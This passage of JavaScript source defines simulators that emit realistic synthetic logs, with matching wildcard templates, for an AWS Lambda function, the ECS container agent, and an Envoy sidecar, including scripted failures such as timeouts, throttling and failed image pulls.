              `Failed to write report to ${dst}: An error occurred (AccessDenied) when calling the PutObject operation: User: arn:aws:sts::123456789012:assumed-role/payments-reconciler-role/payments-reconciler is not authorized to perform: s3:PutObject on resource: "arn:aws:s3:::acme-settlements-prod/reports/${day}/${id.slice(0, 8)}.json" because no identity-based policy allows the s3:PutObject action`
            )
          else c.out('p_wrote', 'info', '', `Wrote report ${dst} (${mism} mismatches)`)
        }
      }
    }
    if (opt.timeout) {
      c.tick(120000 - (c.t - t0))
      c.out(
        'timeout',
        'info',
        `${isoMs(c.t)} ${id} `,
        `Task timed out after 120.${pad(r.int(1, 40))} seconds`
      )
    }
    c.out('end', 'info', '', `END RequestId: ${id}`)
    const duration = opt.timeout ? 120000 : Math.max(40, c.t - t0 + r.int(200, 4000) + r.next())
    reportLine(c, id, {
      duration,
      mem: 1024,
      used: r.int(140, 260),
      init: opt.init,
      status: opt.timeout ? 'Status: timeout' : ''
    })
  }
  const cold =
    (opt = {}) =>
    (c) => {
      init(c)
      invoke(c, { ...opt, init: 900 + c.r.dur(500) })
    }
  return {
    name: 'lambda-python',
    start: Date.UTC(2025, 2, 11, 9, 0, 0),
    gap: (r) => r.int(2000, 60000),
    intra: 60,
    templates: T,
    init: (c) => {
      c.S.rtv = 'python:3.12.v45'
      c.S.rtArn = RUNTIME_HEX(c.r)
    },
    episodes: [
      { at: [0], run: cold() },
      { n: 4, run: cold() },
      { n: 2, run: cold({ sched: true }) },
      {
        n: 2,
        run: (c) => {
          invoke(c, { keyError: true, sched: c.r.chance(0.5) })
          cold()(c)
        }
      },
      {
        n: 1,
        run: (c) => {
          invoke(c, { throttle: true })
          cold()(c)
        }
      },
      {
        n: 1,
        run: (c) => {
          invoke(c, { timeout: true })
          cold()(c)
        }
      },
      { n: 2, run: (c) => invoke(c, { writeFail: true }) },
      { n: 2, run: (c) => invoke(c, { poolFull: true, retry: c.r.chance(0.5) }) },
      { n: 1, run: (c) => invoke(c, { missing: true, retry: true }) },
      { n: 1, run: (c) => invoke(c, { sched: true, drift: true }) },
      { w: 4, run: (c) => invoke(c, { sched: true }) },
      { w: 10, run: (c) => invoke(c) }
    ]
  }
}

// ---------------------------------------------------------------------------------------------
// ecs-agent: the Amazon ECS container agent on an EC2 container instance (/var/log/ecs/
// ecs-agent.log shipped by the CloudWatch agent). Logfmt: 'level=… time=… msg="…" <fields> module=…';
// the fields come from a Go map, so their order varies from line to line within one event.

function ecsAgent() {
  const K = { kv: true }
  const DTE = 'docker_task_engine.go'
  const T = [
    [
      'payload',
      'msg="Received task payload from ACS" taskARN="<*>" version=<*> desiredStatus="<*>" module=payload_responder.go',
      K
    ],
    ['pulling', `msg="Pulling image" task="<*>" container="<*>" image="<*>" module=${DTE}`, K],
    [
      'pulled',
      `msg="Finished pulling image" task="<*>" container="<*>" image="<*>" duration="<*>" module=${DTE}`,
      K
    ],
    [
      'cached',
      `msg="Image already present locally, skipping pull" task="<*>" container="<*>" image="<*>" module=${DTE}`,
      K
    ],
    [
      'img_ref',
      'msg="Updating container reference <*> in Image State - <*>" module=image_manager.go',
      K
    ],
    ['creating', `msg="Creating container" task="<*>" container="<*>" module=${DTE}`, K],
    [
      'created',
      `msg="Created container" task="<*>" container="<*>" runtimeID="<*>" module=${DTE}`,
      K
    ],
    [
      'starting',
      `msg="Starting container" task="<*>" container="<*>" runtimeID="<*>" module=${DTE}`,
      K
    ],
    [
      'started',
      `msg="Started container" task="<*>" container="<*>" runtimeID="<*>" duration="<*>" module=${DTE}`,
      K
    ],
    [
      'cont_task_change',
      'msg="Container change also resulted in task change" task="<*>" container="<*>" runtimeID="<*>" desiredStatus="<*>" module=task_manager.go',
      K
    ],
    [
      'state_change',
      'msg="Sending state change to ECS" eventType="<*>" eventData="<*>" module=task_handler.go',
      K
    ],
    ['steady', 'msg="Task at steady state" task="<*>" knownStatus="<*>" module=task_manager.go', K],
    [
      'redundant',
      'msg="Redundant container state change" task="<*>" container="<*>" runtimeID="<*>" toStatus="<*>" knownStatus="<*>" module=task_manager.go',
      K
    ],
    [
      'stopping',
      `msg="Stopping container" task="<*>" container="<*>" runtimeID="<*>" module=${DTE}`,
      K
    ],
    [
      'stopped',
      `msg="Container stopped" task="<*>" container="<*>" runtimeID="<*>" exitCode=<*> module=${DTE}`,
      K
    ],
    [
      'stopped_wait',
      'msg="Managed task has reached stopped; waiting for container cleanup" task="<*>" module=task_manager.go',
      K
    ],
    [
      'cleanup',
      'msg="Cleaning up task\'s containers and data" task="<*>" module=task_manager.go',
      K
    ],
    [
      'removed',
      `msg="Removed container" task="<*>" container="<*>" runtimeID="<*>" module=${DTE}`,
      K
    ],
    [
      'health',
      `msg="Container health status changed" task="<*>" container="<*>" status="<*>" output="<*>" module=${DTE}`,
      K
    ],
    [
      'acs_closed',
      'msg="ACS Websocket connection closed for a valid reason" module=acs_session.go',
      K
    ],
    ['ws_err', 'msg="Error getting message from ws backend" error="<*>" module=client.go', K],
    ['ws_establish', 'msg="Establishing a Websocket connection" url="<*>" module=client.go', K],
    ['acs_connected', 'msg="Connected to ACS endpoint" module=acs_session.go', K],
    ['tcs_closed', 'msg="TCS Websocket connection closed for a valid reason" module=handler.go', K],
    ['tcs_connected', 'msg="Connected to TCS endpoint" module=handler.go', K],
    [
      'discover',
      'msg="Using cached DiscoverPollEndpoint" endpoint="<*>" telemetryEndpoint="<*>" serviceConnectEndpoint="<*>" containerInstanceARN="<*>" module=manager.go',
      K
    ],
    [
      'metrics',
      'msg="Published container metrics" numTasks=<*> numContainers=<*> module=tcs_client.go',
      K
    ],
    ['health_metrics', 'msg="Published health metrics" numTasks=<*> module=tcs_client.go', K],
    [
      'creds',
      'msg="Updated task IAM role credentials" task="<*>" credentialsID="<*>" roleType="<*>" module=credentials_manager.go',
      K
    ],
    [
      'stats_err',
      'msg="Error retrieving stats for container" container="<*>" runtimeID="<*>" error="<*>" module=container.go',
      K
    ],
    [
      'retry_err',
      'msg="Retrying after error from ECS" api="<*>" attempt=<*> backoff="<*>" error="<*>" module=task_handler.go',
      K
    ],
    [
      'img_begin',
      'msg="Begin building map of eligible unused images for deletion" module=image_manager.go',
      K
    ],
    [
      'img_none',
      'msg="No eligible images for deletion for this cleanup cycle" module=image_manager.go',
      K
    ],
    [
      'img_removing',
      'msg="Removing image" image="<*>" imageID="<*>" sizeBytes=<*> module=image_manager.go',
      K
    ],
    ['img_removed', 'msg="Image removed" imageID="<*>" module=image_manager.go', K],
    [
      'pull_err',
      `msg="Error while pulling image; will try to run anyway" task="<*>" container="<*>" image="<*>" error="<*>" module=${DTE}`,
      K
    ],
    [
      'transition_err',
      'msg="Error transitioning container" task="<*>" container="<*>" runtimeID="<*>" nextState="<*>" error="<*>" module=task_manager.go',
      K
    ],
    [
      'docker_crit',
      'msg="Unable to communicate with Docker daemon" error="<*>" module=agent.go',
      K
    ],
    ['docker_ok', 'msg="Docker daemon connection restored" module=agent.go', K]
  ]
  const LV = { debug: 'debug', info: 'info', warn: 'warning', error: 'error', critical: 'critical' }
  const qv = (v) =>
    typeof v === 'number' ? String(v) : `"${String(v).replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"`
  function L(c, k, lv, msg, fields = {}) {
    const module = c.meta(k).module
    const keys = c.r.shuffle(Object.keys(fields))
    const parts = [
      `msg=${qv(msg)}`,
      ...keys.map((f) => `${f}=${qv(fields[f])}`),
      `module=${module}`
    ]
    c.out(k, LV[lv], `level=${lv} time=${isoS(c.t)} `, parts.join(' '))
  }
  const ACCT = '123456789012'
  const CLUSTER = 'prod-cluster'
  const arnOf = (id) => `arn:aws:ecs:us-east-1:${ACCT}:task/${CLUSTER}/${id}`
  const FAMILIES = [
    [
      5,
      {
        family: 'orders-api',
        containers: [
          ['app', `${ACCT}.dkr.ecr.us-east-1.amazonaws.com/orders-api:v1.8.2`],
          [
            'envoy',
            '840364872350.dkr.ecr.us-east-1.amazonaws.com/aws-appmesh-envoy:v1.29.12.0-prod'
          ],
          ['log_router', 'public.ecr.aws/aws-observability/aws-for-fluent-bit:2.32.4']
        ]
      }
    ],
    [
      3,
      {
        family: 'payments-worker',
        containers: [
          ['worker', `${ACCT}.dkr.ecr.us-east-1.amazonaws.com/payments-worker:2025.03.10-3`],
          ['xray-daemon', 'public.ecr.aws/xray/aws-xray-daemon:3.3.13']
        ]
      }
    ],
    [
      2,
      {
        family: 'report-cron',
        containers: [['report', `${ACCT}.dkr.ecr.us-east-1.amazonaws.com/report-cron:v0.9.4`]]
      }
    ]
  ]
  const tsLong = (c, t) =>
    `${ymdHms(t)}.${pad(new Date(t).getUTCMilliseconds(), 3)}${String(c.r.int(100000, 999999))} +0000 UTC`
  function startTask(c) {
    const r = c.r
    const fam = r.wpick(FAMILIES)
    const id = r.hex(32)
    const task = {
      id,
      arn: arnOf(id),
      family: fam.family,
      containers: fam.containers.map(([name, image]) => ({ name, image, rid: '' }))
    }
    L(c, 'payload', 'info', 'Received task payload from ACS', {
      taskARN: task.arn,
      version: r.int(2000, 9000),
      desiredStatus: 'RUNNING'
    })
    const pullStart = c.t
    for (const ct of task.containers) {
      if (ct.image.includes(ACCT) || r.chance(0.2)) {
        L(c, 'pulling', 'info', 'Pulling image', { task: id, container: ct.name, image: ct.image })
        c.tick(r.int(800, 9000))
        if (c.S.pullFail > 0 && ct.image.includes(ACCT)) {
          c.S.pullFail--
          L(c, 'pull_err', 'warn', 'Error while pulling image; will try to run anyway', {
            task: id,
            container: ct.name,
            image: ct.image,
            error: `CannotPullContainerError: pull image manifest has been retried 5 time(s): failed to resolve ref ${ct.image}: failed to do request: Head "https://${ACCT}.dkr.ecr.us-east-1.amazonaws.com/v2/${ct.image.split('/')[1].split(':')[0]}/manifests/${ct.image.split(':')[1]}": dial tcp 10.0.0.${r.int(100, 200)}:443: i/o timeout`
          })
        } else {
          L(c, 'pulled', 'info', 'Finished pulling image', {
            task: id,
            container: ct.name,
            image: ct.image,
            duration: `${f3(r.dur(3, 0.1))}s`
          })
          if (r.chance(0.5))
            L(
              c,
              'img_ref',
              'info',
              `Updating container reference ${ct.name} in Image State - sha256:${r.hex(64)}`
            )
        }
      } else
        L(c, 'cached', 'info', 'Image already present locally, skipping pull', {
          task: id,
          container: ct.name,
          image: ct.image
        })
    }
    const pullStop = c.t
    for (const ct of task.containers) {
      L(c, 'creating', 'info', 'Creating container', { task: id, container: ct.name })
      ct.rid = r.hex(64)
      L(c, 'created', 'info', 'Created container', {
        task: id,
        container: ct.name,
        runtimeID: ct.rid
      })
    }
    for (const ct of task.containers) {
      L(c, 'starting', 'info', 'Starting container', {
        task: id,
        container: ct.name,
        runtimeID: ct.rid
      })
      L(c, 'started', 'info', 'Started container', {
        task: id,
        container: ct.name,
        runtimeID: ct.rid,
        duration: `${r.int(80, 900)}.${r.int(100000, 999999)}ms`
      })
    }
    const last = task.containers[task.containers.length - 1]
    L(c, 'cont_task_change', 'info', 'Container change also resulted in task change', {
      task: id,
      container: last.name,
      runtimeID: last.rid,
      desiredStatus: 'RUNNING'
    })
    L(c, 'state_change', 'info', 'Sending state change to ECS', {
      eventType: 'TaskStateChange',
      eventData: `TaskChange: [${task.arn} -> RUNNING, Known Sent: NONE, PullStartedAt: ${tsLong(c, pullStart)}, PullStoppedAt: ${tsLong(c, pullStop)}] sent: false`
    })
    L(c, 'steady', 'info', 'Task at steady state', { task: id, knownStatus: 'RUNNING' })
    if (r.chance(0.5))
      L(c, 'creds', 'info', 'Updated task IAM role credentials', {
        task: id,
        credentialsID: r.uuid(),
        roleType: 'TaskApplication'
      })
    c.S.tasks.push(task)
  }
  function stopTask(c) {
    const r = c.r
    if (c.S.tasks.length < 3) return startTask(c)
    const task = c.S.tasks.splice(r.int(0, c.S.tasks.length - 1), 1)[0]
    L(c, 'payload', 'info', 'Received task payload from ACS', {
      taskARN: task.arn,
      version: r.int(2000, 9000),
      desiredStatus: 'STOPPED'
    })
    for (const ct of task.containers) {
      L(c, 'stopping', 'info', 'Stopping container', {
        task: task.id,
        container: ct.name,
        runtimeID: ct.rid
      })
      L(c, 'stopped', 'info', 'Container stopped', {
        task: task.id,
        container: ct.name,
        runtimeID: ct.rid,
        exitCode: r.wpick([
          [70, 0],
          [20, 143],
          [10, 137]
        ])
      })
    }
    if (r.chance(0.5)) {
      const ct = r.pick(task.containers)
      L(c, 'redundant', 'info', 'Redundant container state change', {
        task: task.id,
        container: ct.name,
        runtimeID: ct.rid,
        toStatus: 'STOPPED',
        knownStatus: 'STOPPED'
      })
    }
    const last = task.containers[task.containers.length - 1]
    L(c, 'cont_task_change', 'info', 'Container change also resulted in task change', {
      task: task.id,
      container: last.name,
      runtimeID: last.rid,
      desiredStatus: 'STOPPED'
    })
    L(c, 'state_change', 'info', 'Sending state change to ECS', {
      eventType: 'TaskStateChange',
      eventData: `TaskChange: [${task.arn} -> STOPPED, Known Sent: RUNNING, ExecutionStoppedAt: ${tsLong(c, c.t)}] sent: false`
    })
    L(
      c,
      'stopped_wait',
      'info',
      'Managed task has reached stopped; waiting for container cleanup',
      { task: task.id }
    )
    c.S.stopped.push(task)
  }
  function cleanupTask(c) {
    if (!c.S.stopped.length) return redundant(c)
    const task = c.S.stopped.shift()
    L(c, 'cleanup', 'info', "Cleaning up task's containers and data", { task: task.id })
    for (const ct of task.containers)
      L(c, 'removed', 'info', 'Removed container', {
        task: task.id,
        container: ct.name,
        runtimeID: ct.rid
      })
  }
  function redundant(c) {
    const task = c.r.pick(c.S.tasks)
    const ct = c.r.pick(task.containers)
    L(c, 'redundant', 'info', 'Redundant container state change', {
      task: task.id,
      container: ct.name,
      runtimeID: ct.rid,
      toStatus: c.r.pick(['RUNNING', 'CREATED']),
      knownStatus: 'RUNNING'
    })
  }
  const wsUrl = (c, acs) =>
    acs
      ? `https://ecs-a-3.us-east-1.amazonaws.com/ws?agentHash=${c.S.agentHash}&agentVersion=1.89.2&clusterArn=${CLUSTER}&containerInstanceArn=arn%3Aaws%3Aecs%3Aus-east-1%3A${ACCT}%3Acontainer-instance%2F${CLUSTER}%2F${c.S.ci}&dockerVersion=DockerVersion%3A+25.0.8&protocolVersion=2&sendCredentials=${c.r.chance(0.5)}&seqNum=1`
      : `https://ecs-t-3.us-east-1.amazonaws.com/ws?agentHash=${c.S.agentHash}&agentVersion=1.89.2&cluster=${CLUSTER}&containerInstance=arn%3Aaws%3Aecs%3Aus-east-1%3A${ACCT}%3Acontainer-instance%2F${CLUSTER}%2F${c.S.ci}&dockerVersion=DockerVersion%3A+25.0.8`
  function reconnect(c) {
    const acs = c.r.chance(0.6)
    if (c.r.chance(0.65))
      L(
        c,
        acs ? 'acs_closed' : 'tcs_closed',
        'info',
        `${acs ? 'ACS' : 'TCS'} Websocket connection closed for a valid reason`
      )
    else
      L(c, 'ws_err', 'warn', 'Error getting message from ws backend', {
        error: c.r.chance(0.7)
          ? `read tcp 10.0.${c.r.int(0, 3)}.${c.r.int(10, 250)}:${c.r.int(32768, 60999)}->54.239.${c.r.int(0, 63)}.${c.r.int(1, 254)}:443: read: connection reset by peer`
          : 'websocket: close 1006 (abnormal closure): unexpected EOF'
      })
    c.tick(c.r.int(200, 2500))
    L(c, 'ws_establish', 'info', 'Establishing a Websocket connection', { url: wsUrl(c, acs) })
    L(
      c,
      acs ? 'acs_connected' : 'tcs_connected',
      'info',
      `Connected to ${acs ? 'ACS' : 'TCS'} endpoint`
    )
  }
  function imageCleanup(c) {
    L(c, 'img_begin', 'info', 'Begin building map of eligible unused images for deletion')
    if (c.S.imgCycle++ % 2 === 1)
      return L(c, 'img_none', 'info', 'No eligible images for deletion for this cleanup cycle')
    for (let i = c.r.int(1, 2); i > 0; i--) {
      const img = `${ACCT}.dkr.ecr.us-east-1.amazonaws.com/${c.r.pick(['orders-api:v1.8.0', 'orders-api:v1.8.1', 'payments-worker:2025.03.07-1'])}`
      const iid = `sha256:${c.r.hex(64)}`
      L(c, 'img_removing', 'info', 'Removing image', {
        image: img,
        imageID: iid,
        sizeBytes: c.r.int(90000000, 400000000)
      })
      L(c, 'img_removed', 'info', 'Image removed', { imageID: iid })
    }
  }
  function healthChange(c) {
    const task = c.r.pick(
      c.S.tasks.filter((t) => t.family === 'orders-api').concat(c.S.tasks.slice(0, 1))
    )
    const ct = task.containers[0]
    const bad = c.r.chance(0.5)
    L(c, 'health', 'info', 'Container health status changed', {
      task: task.id,
      container: ct.name,
      status: bad ? 'UNHEALTHY' : 'HEALTHY',
      output: bad
        ? "curl: (7) Failed to connect to localhost port 8080 after 0 ms: Couldn't connect to server"
        : ''
    })
  }
  return {
    name: 'ecs-agent',
    start: Date.UTC(2025, 2, 11, 9, 0, 0),
    gap: (r) => r.int(500, 25000),
    intra: 200,
    // module= is a field like the others: the template keeps its key, not its value
    templates: T.map(([k, tpl, o]) => [
      k,
      tpl.replace(/module=\S+$/, 'module=<*>'),
      { ...o, module: tpl.match(/module=(\S+)$/)[1] }
    ]),
    init: (c) => {
      c.S.tasks = []
      c.S.stopped = []
      c.S.pullFail = 2
      c.S.imgCycle = 0
      c.S.agentHash = c.r.hex(8)
      c.S.ci = c.r.hex(32)
      const r = c.r
      for (let i = 0; i < 5; i++) {
        const fam = r.wpick(FAMILIES)
        const id = r.hex(32)
        c.S.tasks.push({
          id,
          arn: arnOf(id),
          family: fam.family,
          containers: fam.containers.map(([name, image]) => ({ name, image, rid: r.hex(64) }))
        })
      }
    },
    filler: redundant,
    episodes: [
      { w: 5, run: startTask },
      { w: 4, run: stopTask },
      { w: 4, run: cleanupTask },
      { w: 14, run: redundant },
      { w: 6, run: reconnect },
      {
        w: 5,
        run: (c) =>
          L(c, 'discover', 'info', 'Using cached DiscoverPollEndpoint', {
            endpoint: 'https://ecs-a-3.us-east-1.amazonaws.com/',
            telemetryEndpoint: 'https://ecs-t-3.us-east-1.amazonaws.com/',
            serviceConnectEndpoint: 'https://ecs-sc.us-east-1.api.aws',
            containerInstanceARN: `arn:aws:ecs:us-east-1:${ACCT}:container-instance/${CLUSTER}/${c.S.ci}`
          })
      },
      {
        w: 14,
        run: (c) => {
          const nt = c.S.tasks.length
          if (c.r.chance(0.6))
            L(c, 'metrics', 'info', 'Published container metrics', {
              numTasks: nt,
              numContainers: c.S.tasks.reduce((a, t) => a + t.containers.length, 0)
            })
          else L(c, 'health_metrics', 'info', 'Published health metrics', { numTasks: nt })
        }
      },
      {
        w: 6,
        run: (c) => {
          const task = c.r.pick(c.S.tasks)
          L(c, 'creds', 'info', 'Updated task IAM role credentials', {
            task: task.id,
            credentialsID: c.r.uuid(),
            roleType: c.r.pick(['TaskApplication', 'TaskExecution'])
          })
        }
      },
      {
        w: 5,
        run: (c) => {
          const task = c.r.pick(c.S.tasks)
          const ct = c.r.pick(task.containers)
          L(c, 'stats_err', 'warn', 'Error retrieving stats for container', {
            container: ct.name,
            runtimeID: ct.rid,
            error: c.r.pick([
              'context deadline exceeded',
              'container not running',
              `Error response from daemon: No such container: ${ct.rid}`
            ])
          })
        }
      },
      { w: 3, run: healthChange },
      {
        w: 3,
        run: (c) => {
          const a = c.r.int(1, 3)
          L(c, 'retry_err', 'info', 'Retrying after error from ECS', {
            api: c.r.pick(['SubmitTaskStateChange', 'SubmitContainerStateChange']),
            attempt: a,
            backoff: `${f3(0.25 * 2 ** a + c.r.next() * 0.2)}s`,
            error: 'ThrottlingException: Rate exceeded'
          })
        }
      },
      { n: 3, run: imageCleanup },
      {
        n: 2,
        run: (c) => {
          const task = c.r.pick(c.S.tasks)
          const ct = task.containers[0]
          L(c, 'transition_err', 'error', 'Error transitioning container', {
            task: task.id,
            container: ct.name,
            runtimeID: ct.rid,
            nextState: 'STOPPED',
            error: c.r.pick([
              'Could not transition to stopped; timed out after waiting 30s',
              'DockerTimeoutError: Could not transition to stopped; timed out after waiting 30s'
            ])
          })
        }
      },
      {
        n: 1,
        from: 0.55,
        to: 0.65,
        run: (c) => {
          L(c, 'docker_crit', 'critical', 'Unable to communicate with Docker daemon', {
            error:
              'Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?'
          })
          c.tick(c.r.int(8000, 20000))
          L(c, 'docker_ok', 'info', 'Docker daemon connection restored')
        }
      }
    ]
  }
}

// ---------------------------------------------------------------------------------------------
// envoy: an Envoy sidecar (App Mesh image) in an ECS task; stdout holds the access log (the
// default format for HTTP listeners, a custom format for a TCP egress listener) and stderr the
// application log ('[%Y-%m-%d %T.%e][%t][%l][%n] [%g:%#] %v'), with debug on for the connection,
// router and http components. Both go to the same log group.

function envoy() {
  const T = [
    ['access', 'info', '', '', '"<*>" <*> <*> <*> <*> <*> <*> "<*>" "<*>" "<*>" "<*>" "<*>"'],
    ['tcp_access', 'info', '', '', 'tcp <*> -> <*> <*> <*> <*>ms <*>'],
    [
      'epoch',
      'info',
      'main',
      'source/server/server.cc:444',
      'initializing epoch <*> (base id=<*>, hot restart version=<*>)'
    ],
    ['admin', 'info', 'main', 'source/server/server.cc:861', 'admin address: <*>'],
    [
      'loading_stats',
      'info',
      'config',
      'source/server/configuration_impl.cc:125',
      'loading stats configuration'
    ],
    [
      'loading_secrets',
      'info',
      'config',
      'source/server/configuration_impl.cc:163',
      'loading <*> static secret(s)'
    ],
    [
      'loading_clusters',
      'info',
      'config',
      'source/server/configuration_impl.cc:169',
      'loading <*> cluster(s)'
    ],
    [
      'loading_listeners',
      'info',
      'config',
      'source/server/configuration_impl.cc:173',
      'loading <*> listener(s)'
    ],
    [
      'deprecated',
      'warning',
      'misc',
      'source/common/protobuf/message_validator_impl.cc:21',
      "Deprecated field: type <*> Using deprecated option '<*>' from file <*>. This configuration will be removed from Envoy soon. Please see https://www.envoyproxy.io/docs/envoy/latest/version_history/version_history for details. If continued use of this field is absolutely necessary, see https://www.envoyproxy.io/docs/envoy/latest/configuration/operations/runtime#using-runtime-overrides-for-deprecated-features for how to apply a temporary and highly discouraged override."
    ],
    [
      'cm_init_cds',
      'info',
      'upstream',
      'source/common/upstream/cluster_manager_impl.cc:222',
      'cm init: initializing cds'
    ],
    [
      'rtds',
      'info',
      'runtime',
      'source/common/runtime/runtime_impl.cc:602',
      'RTDS has finished initialization'
    ],
    [
      'cds_add',
      'info',
      'upstream',
      'source/common/upstream/cds_api_helper.cc:32',
      'cds: add <*> cluster(s), remove <*> cluster(s)'
    ],
    [
      'cds_skipped',
      'info',
      'upstream',
      'source/common/upstream/cds_api_helper.cc:71',
      'cds: added/updated <*> cluster(s), skipped <*> unmodified cluster(s)'
    ],
    [
      'cm_init_all',
      'info',
      'upstream',
      'source/common/upstream/cluster_manager_impl.cc:240',
      'cm init: all clusters initialized'
    ],
    [
      'all_clusters',
      'info',
      'main',
      'source/server/server.cc:946',
      'all clusters initialized. initializing init manager'
    ],
    [
      'lds_add',
      'info',
      'upstream',
      'source/extensions/listener_managers/listener_manager/lds_api.cc:82',
      "lds: add/update listener '<*>'"
    ],
    [
      'all_deps',
      'info',
      'config',
      'source/extensions/listener_managers/listener_manager/listener_manager_impl.cc:926',
      'all dependencies initialized. starting workers'
    ],
    ['dispatch', 'info', 'main', 'source/server/server.cc:978', 'starting main dispatch loop'],
    [
      'xds_closed',
      'warning',
      'config',
      'source/extensions/config_subscription/grpc/grpc_stream.h:152',
      'StreamAggregatedResources gRPC config stream to <*> closed: <*>, <*>'
    ],
    [
      'xds_closed_since',
      'warning',
      'config',
      'source/extensions/config_subscription/grpc/grpc_stream.h:190',
      'StreamAggregatedResources gRPC config stream to <*> closed since <*>s ago: <*>, <*>'
    ],
    [
      'rejected',
      'warning',
      'config',
      'source/extensions/config_subscription/grpc/grpc_subscription_impl.cc:128',
      'gRPC config for <*> rejected: <*>'
    ],
    [
      'new_conn',
      'debug',
      'conn_handler',
      'source/common/listener_manager/active_tcp_listener.cc:160',
      '[C<*>] new connection from <*>'
    ],
    [
      'cluster_match',
      'debug',
      'router',
      'source/common/router/router.cc:514',
      "[C<*>][S<*>] cluster '<*>' match for URL '<*>'"
    ],
    [
      'router_decoding',
      'debug',
      'router',
      'source/common/router/router.cc:739',
      '[C<*>][S<*>] router decoding headers:'
    ],
    [
      'up_headers',
      'debug',
      'router',
      'source/common/router/upstream_request.cc:281',
      '[C<*>][S<*>] upstream headers complete: end_stream=<*>'
    ],
    [
      'encoding',
      'debug',
      'http',
      'source/common/http/conn_manager_impl.cc:1870',
      '[C<*>][S<*>] encoding headers via codec (end_stream=<*>):'
    ],
    [
      'up_reset',
      'debug',
      'router',
      'source/common/router/router.cc:1330',
      '[C<*>][S<*>] upstream reset: reset reason: <*>, transport failure reason: <*>'
    ],
    [
      'remote_close',
      'debug',
      'connection',
      'source/common/network/connection_impl.cc:714',
      '[C<*>] remote close'
    ],
    [
      'closing_socket',
      'debug',
      'connection',
      'source/common/network/connection_impl.cc:276',
      '[C<*>] closing socket: <*>'
    ],
    [
      'closing_data',
      'debug',
      'connection',
      'source/common/network/connection_impl.cc:146',
      '[C<*>] closing data_to_write=<*> type=<*>'
    ],
    [
      'disconnect_pending',
      'debug',
      'client',
      'source/common/http/codec_client.cc:107',
      '[C<*>] disconnect. resetting <*> pending requests'
    ],
    ['sigterm', 'warning', 'main', 'source/server/server.cc:923', 'caught ENVOY_SIGTERM'],
    [
      'shutting_down',
      'info',
      'main',
      'source/server/server.cc:1087',
      'shutting down server instance'
    ],
    ['loop_exited', 'info', 'main', 'source/server/server.cc:1057', 'main dispatch loop exited'],
    ['exiting', 'info', 'main', 'source/server/server.cc:1130', 'exiting'],
    [
      'segv',
      'critical',
      'backtrace',
      'source/server/backtrace.h:127',
      'Caught Segmentation fault, suspect faulting address <*>'
    ],
    [
      'bt_hdr',
      'critical',
      'backtrace',
      'source/server/backtrace.h:111',
      'Backtrace (use tools/stack_decode.py to get line numbers):'
    ],
    ['bt_version', 'critical', 'backtrace', 'source/server/backtrace.h:112', 'Envoy version: <*>'],
    ['bt_frame', 'critical', 'backtrace', 'source/server/backtrace.h:119', '#<*>: <*> [<*>]']
  ]
  const meta = new Map(T.map(([k, lv, logger, src]) => [k, { lv, logger, src }]))
  const app = (c, k, tid, msg) => {
    const m = meta.get(k)
    c.out(k, m.lv, `[${ymdHms(c.t)}.${tp(c.t).ms}][${tid}][${m.lv}][${m.logger}] [${m.src}] `, msg)
  }
  const wk = (c) => c.r.int(14, 21)
  const digits = (r, n) => {
    let s = String(r.int(1, 9))
    while (s.length < n) s += String(r.int(0, 9))
    return s
  }
  function request(c) {
    const r = c.r
    const v = r.wpick([
      [
        20,
        [
          'GET',
          () => `/api/v1/orders/${r.int(900000, 999999)}`,
          'orders.internal:8080',
          'local',
          'HTTP/1.1'
        ]
      ],
      [
        10,
        [
          'GET',
          () => `/api/v1/orders?customer=${r.int(10000, 99999)}&limit=20`,
          'orders.internal:8080',
          'local',
          'HTTP/1.1'
        ]
      ],
      [8, ['POST', () => '/api/v1/orders', 'orders.internal:8080', 'local', 'HTTP/1.1']],
      [12, ['GET', () => '/health', 'orders.internal:8080', 'local', 'HTTP/1.1']],
      [
        10,
        [
          'POST',
          () => '/inventory.v1.InventoryService/Reserve',
          'inventory.internal:50051',
          'inventory',
          'HTTP/2'
        ]
      ],
      [
        6,
        [
          'POST',
          () => '/payments.v1.Payments/Authorize',
          'payments.internal:50051',
          'payments',
          'HTTP/2'
        ]
      ],
      [
        4,
        [
          'PUT',
          () => `/api/v1/orders/${r.int(900000, 999999)}/status`,
          'orders.internal:8080',
          'local',
          'HTTP/1.1'
        ]
      ]
    ])
    const path = v[1]()
    const grpc = v[4] === 'HTTP/2'
    const outcome = r.wpick([
      [88, 'ok'],
      [4, 'UF,URX'],
      [2, 'UH'],
      [2, 'UT'],
      [2, 'DC'],
      [1, 'NR'],
      [1, 'URX']
    ])
    let st = path === '/health' ? 200 : v[0] === 'POST' && !grpc ? 201 : 200
    if (!grpc && outcome === 'ok' && r.chance(0.05)) st = r.pick([400, 404, 409])
    let flags = '-'
    let host = v[3] === 'local' ? '127.0.0.1:8080' : `10.0.${r.int(10, 13)}.${r.int(2, 250)}:50051`
    const dur = Math.max(1, Math.round(path === '/health' ? r.int(0, 2) : r.dur(grpc ? 6 : 25)))
    let ust = String(Math.max(0, dur - r.int(0, 2)))
    if (outcome !== 'ok') {
      flags = outcome
      if (outcome === 'UF,URX' || outcome === 'URX') st = 503
      if (outcome === 'UH') {
        st = 503
        host = '-'
        ust = '-'
      }
      if (outcome === 'UT') {
        st = 504
        ust = '-'
      }
      if (outcome === 'DC') {
        st = 0
        ust = '-'
      }
      if (outcome === 'NR') {
        st = 404
        host = '-'
        ust = '-'
      }
    }
    const bytesIn = v[0] === 'GET' ? 0 : r.int(40, 2000)
    const bytesOut = st >= 500 ? (outcome === 'UH' ? 19 : 91) : st === 0 ? 0 : r.int(20, 9000)
    const xff = path === '/health' ? '-' : grpc ? '-' : xffList(r)
    const agent =
      path === '/health'
        ? 'ELB-HealthChecker/2.0'
        : grpc
          ? r.pick(['grpc-java-netty/1.68.1', 'grpc-go/1.69.2'])
          : r.pick(['okhttp/4.12.0', 'Go-http-client/1.1', 'python-requests/2.32.3', UAS[0][1]])
    return {
      m: v[0],
      path,
      proto: v[4],
      st,
      flags,
      bytesIn,
      bytesOut,
      dur,
      ust,
      xff,
      agent,
      rid: r.uuid(),
      authority: v[2],
      host,
      outcome,
      cluster: v[3] === 'local' ? 'local_app' : `cds_egress_mesh_${v[3]}`
    }
  }
  const accessLine = (c, x) =>
    c.out(
      'access',
      'info',
      `[${isoMs(c.t)}] `,
      `"${x.m} ${x.path} ${x.proto}" ${x.st} ${x.flags} ${x.bytesIn} ${x.bytesOut} ${x.dur} ${x.ust} "${x.xff}" "${x.agent}" "${x.rid}" "${x.authority}" "${x.host}"`
    )
  function plain(c) {
    accessLine(c, request(c))
  }
